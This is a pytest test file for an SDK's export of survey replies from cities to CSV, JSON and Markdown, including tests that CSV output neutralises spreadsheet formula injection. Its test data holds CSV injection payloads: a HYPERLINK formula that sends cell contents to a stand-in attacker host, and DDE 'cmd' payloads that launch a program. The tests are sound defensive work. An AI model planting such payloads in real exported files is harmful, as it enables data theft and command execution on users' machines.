"""Exporting a call's replies: one row per city, in CSV, JSON and Markdown."""

from __future__ import annotations

import csv
import io
import json

import pytest

from tests.calls.conftest import Network, survey
from uccn_sdk.calls.export import call_export
from uccn_sdk.formulas import guarded, unguarded
from uccn_sdk.models import Audience
from uccn_sdk.plugins import Plugins


def test_every_format_has_one_row_per_city(network: Network) -> None:
    network.calls.create(survey(audience=Audience(cities=["lyon", "bologna"])))
    network.calls.open("survey-2026")
    network.deliver()
    post = network.post_of("survey-2026", "!lyon")
    network.calls.handle(network.message("@ana:uccn.test", "1. 4\n2. A | B @room", "$a1", post))
    network.calls.handle(network.message("@mallory:evil.test", "1. 9\n2. me", "$m1", post))
    export = call_export(network.store, "survey-2026")
    assert export is not None
    exporters = Plugins.load().exporters()

    out = io.StringIO()
    assert exporters["replies:csv"].write([export], out) == 2
    rows = {r["city"]: r for r in csv.DictReader(io.StringIO(out.getvalue()))}
    assert rows["lyon"]["answered"] == "yes" and rows["lyon"]["q1"] == "4"
    assert rows["bologna"]["answered"] == "no" and rows["bologna"]["q2"] == ""

    out = io.StringIO()
    exporters["replies:json"].write([export], out)
    document = json.loads(out.getvalue())
    assert document["call"]["id"] == "survey-2026"
    assert [r["city"] for r in document["replies"]] == ["bologna", "lyon"]
    assert type(document["replies"][1]["q1"]) is int

    out = io.StringIO()
    exporters["replies:md"].write([export], out)
    markdown = out.getvalue()
    assert "1 of 2 cities answered" in markdown
    assert "| Lyon | FR | literature | 4 | A \\| B @\u200broom |" in markdown
    assert "| Bologna | IT | music |  |  | *no answer* |" in markdown
    assert markdown.endswith("\n1 answer from people not linked to a city.\n")


def test_a_csv_export_does_not_let_an_answer_run_as_a_formula(network: Network) -> None:
    network.calls.create(survey(audience=Audience(cities=["lyon"])))
    network.calls.open("survey-2026")
    network.deliver()
    post = network.post_of("survey-2026", "!lyon")
    formula = '1. -2\n2. =HYPERLINK("http://evil.example/?"&A1,"Click")'
    network.calls.handle(network.message("@ana:uccn.test", formula, "$a1", post))
    export = call_export(network.store, "survey-2026")
    assert export is not None
    out = io.StringIO()
    Plugins.load().exporters()["replies:csv"].write([export], out)
    (row,) = csv.DictReader(io.StringIO(out.getvalue()))
    # A spreadsheet opening the file shows the answer as text; it does not run it.
    assert row["q2"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
    assert row["q1"] == "-2"  # a number stays a number


def test_an_unknown_call_exports_nothing(network: Network) -> None:
    assert call_export(network.store, "nope") is None


def test_a_csv_export_writes_a_matrix_id_as_it_is(network: Network) -> None:
    network.calls.create(survey(audience=Audience(cities=["lyon"])))
    network.calls.open("survey-2026")
    network.deliver()
    post = network.post_of("survey-2026", "!lyon")
    network.calls.handle(network.message("@ana:uccn.test", "1. 4\n2. @bob:uccn.test", "$a1", post))
    export = call_export(network.store, "survey-2026")
    assert export is not None
    out = io.StringIO()
    Plugins.load().exporters()["replies:csv"].write([export], out)
    (row,) = csv.DictReader(io.StringIO(out.getvalue()))
    assert row["author"] == "@ana:uccn.test"
    assert row["q2"] == "@bob:uccn.test"


@pytest.mark.parametrize(
    "text",
    [
        "@ana:uccn.test",
        "@bot.uccn-2_x=y/z:matrix.example.org:8448",
        "@ana:[2001:db8::1]:8448",
        "-5",
        "-12.5",
        "-1,250.75",
        "+33",
        "-12.5e3",
        "-40%",
        "+33 1 23 45 67 89",
        "+44 (0)20 7946 0958",
        "plain",
        "a=b",
        "",
    ],
)
def test_a_cell_no_spreadsheet_runs_is_written_as_it_is(text: str) -> None:
    assert guarded(text) == text
    assert unguarded(text) == text


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "=1",
        "@SUM(1+1)",
        "@A1",
        "@a1:b2",
        "+cmd|' /C calc'!A0",
        "-cmd|' /C calc'!A0",
        "-1+1",
        "-2+3",
        "+A1",
        "+1-555-123-4567",
        "-",
        "+",
        "@",
        "@ana",
        "@ana:uccn.test(1)",
        "\t=1",
        "\r=1",
        "\uff0b1",
        "\u200b-5",
        "'=1",
    ],
)
def test_a_cell_a_spreadsheet_would_run_is_kept_as_text(text: str) -> None:
    assert guarded(text) == "'" + text
    assert unguarded(guarded(text)) == text


@pytest.mark.parametrize("text", ["@ana:uccn.test", "+33", "-1,250.75", "+33 1 23 45 67 89"])
def test_a_cell_guarded_by_an_earlier_export_reads_back_without_its_apostrophe(text: str) -> None:
    assert unguarded("'" + text) == text
    assert guarded("'" + text) == "''" + text
